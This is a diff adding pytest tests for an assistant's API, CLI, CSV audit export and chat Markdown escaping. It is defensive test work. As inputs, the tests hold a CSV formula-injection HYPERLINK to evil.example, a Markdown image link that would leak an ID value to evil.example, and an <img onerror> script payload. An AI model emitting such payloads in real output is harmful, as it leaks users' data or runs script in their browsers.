@@ -1,0 +1,98 @@
+"""The smaller items of issue 20, each with its test: documented errors for unknown /api paths and wrong
+methods (with the chat page mounted), far-future deadlines, CSV formula injection, `audit export --since`
+with a UTC offset, no CLI tracebacks for bad input, safe chat Markdown."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from fastapi.testclient import TestClient
+from typer.testing import CliRunner
+
+from assistant.audit import AuditLog
+
+
+@pytest.fixture(scope="module")
+def whole_app(service, audit_log):
+    from assistant.api import create_app
+    from assistant.ui import build_ui, mount_ui
+
+    app = create_app(service, audit=audit_log)
+    mount_ui(app, build_ui(service, audit=audit_log))
+    with TestClient(app) as c:
+        yield c
+
+
+def test_unknown_api_paths_and_wrong_methods_get_the_documented_error(whole_app):
+    r = whole_app.get("/api/nope")
+    assert r.status_code == 404 and r.json()["error"]["code"] == "not_found"
+    r = whole_app.get("/api/ask")
+    assert r.status_code == 405 and r.json()["error"]["code"] == "method_not_allowed"
+    assert r.headers["allow"] == "POST"
+    r = whole_app.delete("/api/articles/cpl/244")
+    assert r.status_code == 405 and "GET" in r.headers["allow"]
+    assert whole_app.get("/api/articles/cpl/244").status_code == 200  # the real routes still answer
+
+
+@pytest.mark.parametrize("day", ["9999-12-31", "9999-12-30", "0001-01-01"])
+def test_deadline_at_the_ends_of_the_calendar_is_a_400(client, day):
+    r = client.post("/api/deadline", json={"event": "settlement_default", "date": day})
+    assert r.status_code == 400 and r.json()["error"]["code"] == "bad_input"
+    assert "Error" not in r.json()["error"]["message"]  # a sentence, not a Python exception
+
+
+def test_csv_export_neutralizes_formulas(tmp_path):
+    log = AuditLog(tmp_path / "a.sqlite3")
+    for i, comment in enumerate(['=HYPERLINK("http://evil.example","x")', "@SUM(1)", "-2+3", "普通意见"]):
+        log.log_feedback(f"a{i}", "helpful", comment, channel="api")
+    out = io.StringIO()
+    assert log.export_csv(out, "feedback") == 4
+    out.seek(0)
+    comments = [row["comment"] for row in csv.DictReader(out)]
+    assert comments == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "'-2+3", "普通意见"]
+
+
+def test_audit_export_since_honours_a_utc_offset(tmp_path, monkeypatch):
+    from assistant.cli import app
+
+    path = tmp_path / "a.sqlite3"
+    log = AuditLog(path)
+    log._insert("feedback", {"created_at": "2025-01-01T01:00:00.000000Z", "answer_id": "x", "rating": "helpful",
+                             "channel": "api"})
+    log.close()
+    monkeypatch.setenv("ASSISTANT_AUDIT_DB", str(path))
+    runner = CliRunner()
+    before = runner.invoke(app, ["audit", "export", "--table", "feedback", "--since", "2025-01-01T08:30+08:00"])
+    after = runner.invoke(app, ["audit", "export", "--table", "feedback", "--since", "2025-01-01T09:30+08:00"])
+    assert before.exit_code == 0 and after.exit_code == 0
+    assert before.stdout.count("\n") == 2 and after.stdout.count("\n") == 1  # 01:00 UTC is 09:00 in UTC+8
+    bad = runner.invoke(app, ["audit", "export", "--since", "yesterday"])
+    assert bad.exit_code == 2 and "must be a date" in bad.stderr
+
+
+def test_cli_bad_input_prints_errors_not_tracebacks(tmp_path):
+    from assistant.cli import app
+
+    runner = CliRunner()
+    r = runner.invoke(app, ["ask", ""])
+    assert r.exit_code == 2 and "the question is empty" in r.stderr and "Traceback" not in r.output
+    batch = tmp_path / "q.jsonl"
+    batch.write_text('""\n{"question": []}\n' + "[" * 100_000 + "\n   \n" + '{"id": "ok", "question": "执行回转是什么？"}\n',
+                     encoding="utf-8")
+    r = runner.invoke(app, ["ask", "--batch", str(batch), "--json"])
+    assert r.exit_code == 0, r.output
+    assert r.exception is None
+    assert "nested too deeply" in r.stderr and "skipped" in r.stderr
+    assert '"id": "ok"' in r.stdout
+
+
+def test_chat_markdown_fetches_nothing_and_runs_nothing():
+    from assistant.ui import _escape_md
+
+    shown = _escape_md('结论。![图](https://evil.example/leak?q=身份证) <img src=x onerror=alert(1)> '
+                       '[点此](https://evil.example/a) [条文](/api/articles/cpl/244) https://evil.example/b')
+    assert "![" not in shown and "<img" not in shown and "](https://evil" not in shown
+    assert "[条文](/api/articles/cpl/244)" in shown and "https\\://evil.example/b" in shown
+    assert "[官网](https://flk.npc.gov.cn/x)" in _escape_md("[官网](https://flk.npc.gov.cn/x)", ("flk.npc.gov.cn",))
